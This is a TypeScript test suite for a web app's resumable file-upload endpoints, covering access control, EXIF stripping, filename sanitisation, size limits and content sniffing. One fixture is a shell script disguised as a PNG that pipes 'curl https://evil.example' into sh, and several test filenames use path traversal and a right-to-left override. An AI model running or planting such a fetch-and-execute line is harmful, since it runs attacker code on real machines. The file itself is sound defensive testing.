import { createHash } from 'node:crypto'
import { existsSync, readdirSync } from 'node:fs'
import http from 'node:http'
import path from 'node:path'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createUser, type TestUser } from '../../../../tests/support/factories'
import { DIALECTS, startTestServer, type TestServer } from '../../../../tests/support/test-server'
import { createUpload, headUpload, patchUpload, uploadFile } from '../../../../tests/support/tus'
import { UPLOAD_KINDS } from '../../../shared/schemas/upload'

const OPERATOR = 'files-boss@tio.test'
const PDF = Buffer.from('%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n')

async function photo(width = 800, height = 600): Promise<Buffer> {
  // With EXIF metadata that re-encoding must drop.
  return sharp({ create: { width, height, channels: 3, background: '#3366cc' } })
    .jpeg()
    .withMetadata({ exif: { IFD0: { Copyright: 'secret-camera-owner' } } })
    .toBuffer()
}

describe.each(DIALECTS)('uploads (tus) and stored files on %s', (dialect) => {
  let server: TestServer
  let owner: TestUser
  let third: TestUser
  let operator: TestUser

  beforeAll(async () => {
    server = await startTestServer({ dialect, env: { ADMIN_EMAILS: OPERATOR } })
    owner = await createUser(server)
    third = await createUser(server)
    operator = await createUser(server, { email: OPERATOR })
  }, 60_000)
  afterAll(() => server.close())

  it('refuses uploads without a session (GEN-04)', async () => {
    const { response } = await createUpload(server, undefined, { kind: 'avatars', name: 'a.jpg', size: 10 })
    expect(response.status).toBe(401)
  })

  it('stores an avatar re-encoded as a 512×512 WebP without EXIF, with the spec metadata fields (DATA-34)', async () => {
    const original = await photo()
    const file = await uploadFile(server, owner.cookie, 'avatars', 'me.jpg', original)
    expect(file.contentType).toBe('image/webp')
    const metaResponse = await server.request(`/api/files/${file.id}/metadata`)
    expect(metaResponse.status).toBe(200)
    const { file: meta } = (await metaResponse.json()) as { file: Record<string, unknown> }
    for (const field of [
      'bucket',
      'fullPath',
      'name',
      'size',
      'contentType',
      'timeCreated',
      'updated',
      'md5Hash',
      'cacheControl',
      'contentDisposition',
      'contentEncoding',
      'contentLanguage',
      'customMetadata',
    ]) {
      expect(meta).toHaveProperty(field)
    }
    expect(meta.bucket).toBe('avatars')
    // Public, so without the name the file had on the uploader's computer.
    expect(meta.name).toBe('avatar.webp')
    expect(JSON.stringify(meta)).not.toContain('me.jpg')
    // Avatars are public: no cookie needed.
    const content = await server.request(file.url)
    expect(content.status).toBe(200)
    expect(content.headers.get('content-type')).toBe('image/webp')
    const bytes = Buffer.from(await content.arrayBuffer())
    expect(createHash('md5').update(bytes).digest('base64')).toBe(meta.md5Hash)
    const info = await sharp(bytes).metadata()
    expect([info.format, info.width, info.height]).toEqual(['webp', 512, 512])
    expect(info.exif).toBeUndefined()
    expect(bytes.includes(Buffer.from('secret-camera-owner'))).toBe(false)
  })

  it('a small file goes in one request: the POST that creates the upload carries it and answers 201 with the stored file (CONST-18)', async () => {
    const small = await photo(64, 64)
    const response = await server.request('/api/uploads', {
      method: 'POST',
      cookie: owner.cookie,
      headers: {
        'Tus-Resumable': '1.0.0',
        'Upload-Length': String(small.byteLength),
        'Upload-Metadata': `kind ${Buffer.from('avatars').toString('base64')},filename ${Buffer.from('small.jpg').toString('base64')}`,
        'Content-Type': 'application/offset+octet-stream',
      },
      body: new Uint8Array(small),
    })
    expect(response.status).toBe(201)
    expect(response.headers.get('location')).toMatch(/^\/api\/uploads\//)
    expect(response.headers.get('upload-offset')).toBe(String(small.byteLength))
    const { file } = (await response.json()) as { file: { contentType: string; url: string } }
    expect(file.contentType).toBe('image/webp')
    expect((await server.request(file.url)).status).toBe(200)
  })

  it('serves a document to its owner and the operator, 403 to a third user and 401 to a visitor (ROLE-10)', async () => {
    const file = await uploadFile(server, owner.cookie, 'documents', 'diploma.pdf', PDF)
    expect(file.contentType).toBe('application/pdf')
    const asOwner = await server.request(file.url, { cookie: owner.cookie })
    expect(asOwner.status).toBe(200)
    expect(Buffer.from(await asOwner.arrayBuffer()).equals(PDF)).toBe(true)
    expect((await server.request(file.url, { cookie: operator.cookie })).status).toBe(200)
    expect((await server.request(file.url, { cookie: third.cookie })).status).toBe(403)
    expect((await server.request(`/api/files/${file.id}/metadata`, { cookie: third.cookie })).status).toBe(403)
    expect((await server.request(file.url)).status).toBe(401)
    // Nor can the third user delete it.
    expect((await server.request(file.url, { method: 'DELETE', cookie: third.cookie })).status).toBe(403)
    expect((await server.request(file.url, { cookie: owner.cookie })).status).toBe(200)
  })

  it('serves a file whatever its name: non-Latin names in filename*, no hidden characters or folders, the extension of its bytes', async () => {
    const cases = [
      // A name outside Latin-1 in a raw header failed every download of the file (500).
      { sent: '日本語の書類.pdf', name: '日本語の書類.pdf', ascii: 'file.pdf' },
      // A right-to-left override made "invoice‮fdp.exe" read as "invoiceexe.pdf".
      { sent: 'invoice\u202Efdp.exe', name: 'invoicefdp.exe.pdf', ascii: 'invoicefdp.exe.pdf' },
      // A PDF named .html would open as a page once saved.
      { sent: '../../x.html', name: 'x.html.pdf', ascii: 'x.html.pdf' },
      { sent: 'a"b\r\n.PDF', name: 'a"b.PDF', ascii: 'a_b.PDF' },
    ]
    for (const { sent, name, ascii } of cases) {
      const file = await uploadFile(server, owner.cookie, 'documents', sent, PDF)
      const response = await server.request(file.url, { cookie: owner.cookie })
      expect(response.status).toBe(200)
      const disposition = response.headers.get('content-disposition')!
      expect(disposition.startsWith(`attachment; filename="${ascii}"`)).toBe(true)
      const utf8 = /filename\*=UTF-8''(.+)$/.exec(disposition)?.[1]
      expect(utf8 ? decodeURIComponent(utf8) : ascii).toBe(name)
      const meta = (await (await server.request(`/api/files/${file.id}/metadata`, { cookie: owner.cookie })).json()) as {
        file: { name: string }
      }
      expect(meta.file.name).toBe(name)
    }
  })

  it('refuses a file 1 byte over the limit before storing anything (CONST-18)', async () => {
    for (const kind of ['avatars', 'documents'] as const) {
      const { response } = await createUpload(server, owner.cookie, { kind, name: 'big.png', size: UPLOAD_KINDS[kind].maxBytes + 1 })
      expect(response.status).toBe(413)
      expect(await response.text()).toMatch(/too large: the limit is (5|20) MB/)
    }
    for (const kind of ['avatars', 'documents'] as const) {
      const { response } = await createUpload(server, owner.cookie, { kind, name: 'huge.png', size: 100 * 1024 * 1024 })
      expect(response.status).toBe(413)
      expect(await response.text()).toMatch(/too large: the limit is (5|20) MB/)
    }
    const atLimit = await createUpload(server, owner.cookie, { kind: 'avatars', name: 'ok.png', size: UPLOAD_KINDS.avatars.maxBytes })
    expect(atLimit.response.status).toBe(201)
  })

  it('refuses more bytes than the declared length', async () => {
    const { location } = await createUpload(server, owner.cookie, { kind: 'documents', name: 'a.pdf', size: PDF.length })
    const response = await patchUpload(server, owner.cookie, location!, 0, Buffer.concat([PDF, Buffer.from('extra')]))
    expect(response.status).toBe(413)
  })

  it('refuses a .png that is really a script, decided by its bytes', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n')
    for (const kind of ['avatars', 'documents']) {
      const { location } = await createUpload(server, owner.cookie, { kind, name: 'cat.png', size: script.length })
      const response = await patchUpload(server, owner.cookie, location!, 0, script)
      expect(response.status).toBe(415)
      expect(await response.text()).toContain('This file type is not accepted')
    }
    const files = await server.ctx.database.db.selectFrom('files').select('name').where('owner_id', '=', owner.id).execute()
    expect(files.map((f) => f.name)).not.toContain('cat.png')
  })

  it("hides another user's upload: HEAD and PATCH answer 404", async () => {
    const { location } = await createUpload(server, owner.cookie, { kind: 'documents', name: 'a.pdf', size: PDF.length })
    expect((await headUpload(server, third.cookie, location!)).status).toBe(404)
    expect((await patchUpload(server, third.cookie, location!, 0, PDF)).status).toBe(404)
    expect((await headUpload(server, owner.cookie, location!)).status).toBe(200)
  })

  it('resumes an upload cut in the middle from the offset the server reports (STATE-17)', async () => {
    const data = Buffer.concat([PDF, Buffer.alloc(600 * 1024, 7)])
    const { location } = await createUpload(server, owner.cookie, { kind: 'documents', name: 'long.pdf', size: data.length })
    // A real socket, cut after half of the body.
    const half = 300 * 1024
    await new Promise<void>((resolve) => {
      const url = new URL(location!, server.url)
      const request = http.request(url, {
        method: 'PATCH',
        headers: {
          cookie: owner.cookie,
          origin: server.ctx.config.publicUrl,
          'Tus-Resumable': '1.0.0',
          'Upload-Offset': '0',
          'Content-Type': 'application/offset+octet-stream',
          'Content-Length': String(data.length),
        },
      })
      request.on('error', () => resolve())
      request.on('close', () => resolve())
      request.write(data.subarray(0, half), () => request.destroy())
    })
    let offset = 0
    await expect
      .poll(
        async () => {
          const head = await headUpload(server, owner.cookie, location!)
          offset = Number(head.headers.get('upload-offset'))
          return offset
        },
        { timeout: 15_000, interval: 100 },
      )
      .toBeGreaterThan(0)
    expect(offset).toBeLessThanOrEqual(half)
    const rest = await patchUpload(server, owner.cookie, location!, offset, data.subarray(offset))
    expect(rest.status).toBe(200)
    const { file } = (await rest.json()) as { file: { url: string; size: number } }
    expect(file.size).toBe(data.length)
    const stored = Buffer.from(await (await server.request(file.url, { cookie: owner.cookie })).arrayBuffer())
    expect(stored.equals(data)).toBe(true)
    // The staging copy is gone once the file is stored.
    const staged = path.join(server.dataDir, 'uploads')
    expect(existsSync(staged) ? readdirSync(staged).filter((n) => location!.endsWith(n)) : []).toEqual([])
  }, 30_000)

  it('deletes an own file from storage', async () => {
    const file = await uploadFile(server, owner.cookie, 'documents', 'old.pdf', PDF)
    const row = await server.ctx.database.db.selectFrom('files').select('full_path').where('id', '=', file.id).executeTakeFirstOrThrow()
    expect(existsSync(path.join(server.dataDir, 'files', row.full_path))).toBe(true)
    expect((await server.request(file.url, { method: 'DELETE', cookie: owner.cookie })).status).toBe(200)
    expect(existsSync(path.join(server.dataDir, 'files', row.full_path))).toBe(false)
    expect((await server.request(file.url, { cookie: owner.cookie })).status).toBe(404)
  })
})
